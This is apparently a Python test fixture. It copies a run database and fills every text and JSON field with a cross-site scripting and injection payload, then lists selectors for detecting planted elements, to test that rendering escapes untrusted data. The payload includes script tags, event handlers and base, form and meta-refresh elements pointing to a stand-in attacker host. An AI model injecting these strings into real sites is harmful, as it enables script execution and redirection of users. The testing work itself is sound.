"""A run's file in which every word that a model, a server or a person may have said is an attack.

Works on a copy. What keeps the file together stays: keys, hashes, numbers, names of states.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

ATTACK = (
    '</script><script>alert("script")</script><img src=x onerror=\'alert("image")\'>'
    '<svg onload=alert("svg")><a href="javascript:alert(1)">click</a><iframe src="//evil.example">'
    "<!-- --> ]]> <![CDATA[ <style>*{display:none}</style> {{7*7}} {{script}} ${alert(2)} %3Cscript"
    ' \u2028 \u2029 \u202e \x00 \U000e0041 "><base href="https://evil.example/">'
    '<form action="https://evil.example/"><input autofocus onfocus=alert(3)>'
    '<link rel=stylesheet href="https://evil.example/">'
    '<meta http-equiv=refresh content="0;url=//evil.example">'
    "<details open ontoggle=alert(4)><template><plaintext>"
)
PLANTED = (
    "img, iframe, base, link, form[action], svg[onload], [onerror], [ontoggle], [onfocus],"
    " plaintext, template, meta[http-equiv=refresh]"
)
"""Elements that none of a page's own is."""

_WORDS = {
    "run": ("reason",),
    "text": ("body",),
    "query": ("id", "reference", "answer"),
    "selection": ("reason",),
    "rewrite": ("failure", "author"),
    "sample": ("failure",),
    "verdict": ("unscored",),
    "decision": ("reason",),
    "call": ("provider", "model", "outcome"),
    "attempt": ("problem",),
    "left_out": ("reason",),
}
"""Columns that are text, by table; each keeps what it was before the attack."""
_JSON = {
    "query": ("tags",),
    "selection": ("aspects", "notes"),
    "verdict": ("scores", "notes"),
    "call": ("finish_reasons", "parameters"),
}


def attacked(path: Path, folder: Path) -> Path:
    """The copy, in the folder."""
    copy = folder / path.name
    copy.write_bytes(path.read_bytes())
    with closing(sqlite3.connect(copy)) as db:
        for table, columns in _WORDS.items():
            for column in columns:
                # Also where there was nothing.
                db.execute(f"update {table} set {column} = coalesce({column}, '') || ?", [ATTACK])
        for table, columns in _JSON.items():
            for column in columns:
                _rewrite(db, table, column, _hostile)
        _rewrite(db, "query", "messages", lambda turns: [[role, ATTACK] for role, _ in turns])
        _rewrite(db, "candidate", "prompts", lambda named: {ATTACK: next(iter(named.values()))})
        _rewrite(db, "run", "settings", _models)
        _rewrite(db, "finding", "body", _arms)
        db.execute("update arm set name = name || ?", [ATTACK])
        # Of those that only some have: the others keep the tree what it was.
        db.execute("update decision set action = ? where item >= 0", [ATTACK])
        db.execute(
            "update candidate set origin = ? where id = (select max(id) from candidate"
            " where id < 1000000)",
            [ATTACK],
        )
        db.execute("update call set role = ? where key = (select min(key) from call)", [ATTACK])
        db.commit()
    return copy


def _rewrite(
    db: sqlite3.Connection, table: str, column: str, made: Callable[[Any], object]
) -> None:
    rows = db.execute(f"select rowid, {column} from {table} where {column} is not null").fetchall()
    for row, body in rows:
        told = json.dumps(made(json.loads(body)))
        db.execute(f"update {table} set {column} = ? where rowid = ?", [told, row])


def _hostile(told: Any) -> Any:
    """With an attack in place of every string; where there is nothing in a list, it is one."""
    if isinstance(told, str):
        return ATTACK
    if isinstance(told, list):
        return [_hostile(each) for each in told] or [_hostile("")]
    if isinstance(told, dict):
        return {name: _hostile(each) for name, each in told.items()} or {ATTACK: _hostile("")}
    return told


def _models(settings: Any) -> Any:
    for role in settings["models"].values():
        role["model"] = ATTACK
    return settings


def _arms(found: Any) -> Any:
    for each in found.get("arms", ()):
        if "name" in each:
            each["name"] += ATTACK
    return found
